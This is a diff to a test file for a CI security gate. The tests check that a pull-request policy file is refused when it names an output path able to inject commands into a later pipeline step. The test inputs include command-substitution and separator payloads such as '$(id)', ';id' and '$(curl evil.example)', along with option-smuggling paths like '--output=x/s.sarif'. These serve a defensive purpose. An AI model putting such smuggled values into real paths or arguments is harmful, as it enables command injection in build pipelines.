@@ -268,10 +268,15 @@ describe('loadConfig, a file the policy of the checkout names to write (attack8 
     // The path becomes an output (sarif-file, FINDINGS_GATE_OUT_SARIF_FILE) that a later step pastes into a script:
     // Azure's $(gate.FINDINGS_GATE_OUT_SARIF_FILE), GitHub's ${{ steps.gate.outputs.sarif-file }}.
     const SHELL =
-      "a policy file of this checkout names a file to write only with letters, digits and . _ - + @ , = ~ / \\ in its path (its path becomes an output that a later step may paste into a script), since the pull request can change it. Set the path in the pipeline's own settings (an input or a flag), or in a policy of another repository.";
+      "a policy file of this checkout names a file to write only with letters, digits and . _ - + @ , = ~ / \\ in its path, not first a - (its path becomes an output that a later step may paste into a script or a command line), since the pull request can change it. Set the path in the pipeline's own settings (an input or a flag), or in a policy of another repository.";
     for (const path of ['o/$(id)/s.sarif', 'o/`id`.sarif', 's.sarif;id', 'a b.sarif', 's".sarif', 'o/%PATH%.sarif', 'x|y.sarif']) {
       const policy = await local(`sarif-file: ${JSON.stringify(path)}\n`);
       expect(await refusal({ 'config-file': policy }), path).toContain(`:1: sarif-file is `);
+      expect(await refusal({ 'config-file': policy }), path).toContain(SHELL);
+    }
+    // An option of the command the path is pasted into (attack41 D4: taken before).
+    for (const path of ['--output=x/s.sarif', '-o.sarif']) {
+      const policy = await local(`sarif-file: ${JSON.stringify(path)}\n`);
       expect(await refusal({ 'config-file': policy }), path).toContain(SHELL);
     }
     const inventory = await local('dependency-inventory: "inv/$(curl evil.example).json"\n');
